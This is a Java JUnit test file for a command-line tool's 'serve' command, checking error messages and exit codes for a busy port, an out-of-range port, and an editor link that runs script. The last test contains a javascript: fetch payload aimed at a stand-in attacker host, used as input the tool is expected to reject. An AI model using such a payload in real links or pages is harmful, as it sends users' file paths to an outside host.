package org.digestpress.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.file.Path;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code digest serve} refuses a port in use with a sentence and exit status 2. */
class ServeCommandTest {

    @TempDir
    Path temp;

    @Test
    void aPortInUseIsAUsageErrorThatSaysWhatToDo() throws Exception {
        CliHarness cli = new CliHarness(temp);
        try (ServerSocket taken = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            CliHarness.Outcome outcome = cli.run("serve", cli.publication().resolve("2030-01").toString(),
                    "--port", String.valueOf(taken.getLocalPort()));
            assertEquals(2, outcome.exit());
            assertTrue(outcome.err().contains("port " + taken.getLocalPort() + " on 127.0.0.1 is in use")
                    && outcome.err().contains("--port 0"), outcome.err());
            CliHarness.assertNoJavaNoise(outcome);
        }
    }

    @Test
    void aPortOutOfRangeIsAUsageError() {
        CliHarness cli = new CliHarness(temp);
        CliHarness.Outcome outcome = cli.run("serve", "--port", "70000");
        assertEquals(2, outcome.exit());
        assertTrue(outcome.err().contains("--port must be between 0 and 65535"), outcome.err());
    }

    @Test
    void anEditorLinkThatRunsScriptIsAUsageError() {
        CliHarness cli = new CliHarness(temp);
        CliHarness.Outcome outcome = cli.run("serve", cli.publication().resolve("2030-01").toString(), "--port", "0",
                "--editor", "javascript:fetch('//evil.example/'+'{path}')");
        assertEquals(2, outcome.exit());
        assertTrue(outcome.err().contains("The editor link 'javascript:") && outcome.err().contains("opens no editor"),
                outcome.err());
        CliHarness.assertNoJavaNoise(outcome);
    }
}
